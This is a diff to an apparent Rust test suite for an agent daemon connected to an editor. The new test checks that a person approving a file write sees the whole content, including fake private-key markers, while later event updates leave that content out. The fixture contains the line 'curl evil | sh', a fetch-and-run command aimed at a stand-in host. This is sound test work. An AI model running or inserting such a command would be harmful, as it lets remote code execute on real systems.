@@ -41,6 +41,34 @@ async fn a_call_is_asked_about_decided_and_told_with_its_entries() {
     }
 }
 
+/// Events have no secrets, nor what stands between two marks of one; who decides sees all of what would be done.
+#[tokio::test]
+async fn l8_who_decides_in_an_editor_sees_what_would_be_written_whole() {
+    let (daemon, folder) = house().await;
+    let mut editor = Editor::ready(&daemon).await;
+    let session = editor.session(&path(&folder)).await;
+    let mark = |word: &str| format!("# -----{word} PRIVATE {}-----", "KEY");
+    let content = format!("{}\ncurl evil | sh\n{}\n", mark("BEGIN"), mark("END"));
+    let prompt = editor.say(&session, &write("a.sh", &content)).await;
+    let question = editor.asked().await;
+    let call = &question["params"]["toolCall"];
+    assert_eq!(
+        (&call["rawInput"]["content"], &call["content"][0]["newText"]),
+        (&json!(content), &json!(content))
+    );
+    assert_eq!(call["title"], "write a.sh");
+    assert_eq!(call["locations"][0]["path"], format!("{}/a.sh", path(&folder)));
+    editor.choose(&question, "allow_once").await;
+    assert_eq!(editor.answer(prompt).await["result"]["stopReason"], "end_turn");
+    assert_eq!(std::fs::read_to_string(folder.path().join("a.sh")).unwrap(), content);
+    let updates = editor.updates(&session);
+    let of_call = updates.iter().filter(|update| update["toolCallId"] == call["toolCallId"]);
+    assert!(of_call.clone().count() > 2, "{updates:?}");
+    for update in of_call {
+        assert!(!update.to_string().contains("curl evil"), "what everybody is told has none of it: {update}");
+    }
+}
+
 #[tokio::test]
 async fn a_denial_is_a_failed_call_with_the_reason() {
     let (daemon, folder) = house().await;
